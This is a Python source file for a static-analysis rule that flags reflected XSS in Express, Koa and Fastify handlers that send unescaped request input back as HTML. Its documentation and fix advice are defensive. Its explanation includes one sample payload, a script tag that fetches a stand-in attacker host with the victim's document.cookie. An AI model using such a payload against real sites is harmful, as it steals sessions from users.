"""JS-XSS-003 xss-express-response-reflects-input: request input sent back as HTML.

**What it finds.** Express/Koa/Fastify responses (`res.send`, `res.write`,
`res.end`, `reply.send`, `ctx.body =`) whose body is a string containing
request input (`req.query`, `req.body`, `req.params`, headers, cookies) that
was not HTML-escaped. `res.send` of a string is served as `text/html`, so the
browser renders the input as markup.

**Not reported.** `res.json(...)`, objects (sent as JSON), escaped values
(`escapeHtml`, `he.encode`), numbers, and responses explicitly typed as plain
text or JSON before sending (`res.type("text/plain")`, `res.set("Content-Type", "application/json")`).

**Fix.** No automatic fix: escape the value (`escapeHtml(name)`), render
through a template engine that escapes by default, or send JSON/plain text.
"""

from __future__ import annotations

import re
from typing import Iterator

from tree_sitter import Node

from ...common.names import calls_in, dotted_name, method_name, unit_nodes
from ...common.taint import taint_of
from ...context import AnalysisContext
from ...javascript.flow import SYN
from ...javascript.sources import HTML
from ...model import Confidence, Finding, Severity
from ..base import Explanation, Rule, register
from .dom_xss import html_is_safe

RESPONSE_NAMES = frozenset({"res", "response", "reply", "resp"})
SEND_METHODS = frozenset({"send", "write", "end"})
_NOT_HTML = re.compile(r"""(\.type\(\s*['"](text/plain|json|application/json|text|txt|application/octet-stream)|content-type['"]\s*,\s*['"](text/plain|application/json))""", re.IGNORECASE)


@register
class JsReflectedXss(Rule):
    id = "JS-XSS-003"
    name = "xss-express-response-reflects-input"
    cwe = 79
    owasp = "A03:2021"
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    languages = ("javascript",)
    summary = "Request input sent back unescaped in an HTML response (res.send/res.write)"
    explanation = Explanation(
        what="A response body built from request input is sent as HTML (`res.send(string)` sets `text/html`).",
        why=(
            "The page shows the search term or the name correctly, so it seems done. A link carrying markup in the "
            "parameter makes the browser run the attacker's script on your origin, with the victim's cookies."
        ),
        hostile_input="`/search?q=<script>fetch('//evil.example/'+document.cookie)</script>` sent to a logged-in user.",
        fix="Escape values with `escapeHtml()` (or a template engine that escapes), or send `res.json(...)` / plain text.",
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        for call in calls_in(ctx):
            body = self._response_body(ctx, call)
            if body is not None:
                yield from self._check_body(ctx, call, body)
        for node in unit_nodes(ctx, ("assignment_expression",)):
            left = node.child_by_field_name("left")
            if left is not None and dotted_name(ctx, left) in ("ctx.body", "ctx.response.body"):
                yield from self._check_body(ctx, node, node.child_by_field_name("right"))

    def _check_body(self, ctx: AnalysisContext, sink: Node, body: Node | None) -> Iterator[Finding]:
        body = SYN.unwrap(body)
        if body is None or body.type in ("object", "array") or html_is_safe(ctx, body):
            return
        taint = taint_of(ctx, body, HTML)
        if taint is None or self._declared_not_html(ctx, sink):
            return
        if body.type not in ("template_string", "binary_expression", "string") and not _is_string_source(ctx, body, taint):
            return
        yield self.finding(ctx, sink, f"XSS: {taint.source} (line {taint.line}) is sent back unescaped as HTML; escape it or send JSON")

    @staticmethod
    def _response_body(ctx: AnalysisContext, call: Node) -> Node | None:
        method = method_name(ctx, call)
        if method not in SEND_METHODS:
            return None
        callee = SYN.unwrap(SYN.callee(call))
        base = SYN.unwrap(callee.child_by_field_name("object"))
        while base is not None and base.type == "call_expression":  # res.status(200).send(...)
            inner = SYN.unwrap(base.child_by_field_name("function"))
            base = SYN.unwrap(inner.child_by_field_name("object")) if inner is not None and inner.type == "member_expression" else None
        if base is None or base.type != "identifier" or ctx.text(base) not in RESPONSE_NAMES:
            return None
        args = SYN.arguments(call)
        return args[0] if args else None

    @staticmethod
    def _declared_not_html(ctx: AnalysisContext, sink: Node) -> bool:
        function = SYN.enclosing_function(sink)
        scope = function if function is not None else ctx.unit
        before = ctx.source[scope.start_byte : sink.end_byte].decode("utf-8", "replace")
        return bool(_NOT_HTML.search(before))


def _is_string_source(ctx: AnalysisContext, node: Node, taint) -> bool:
    """A bare request value: a string unless the client sent an object (then JSON)."""
    return node.type in ("member_expression", "subscript_expression", "identifier", "call_expression")
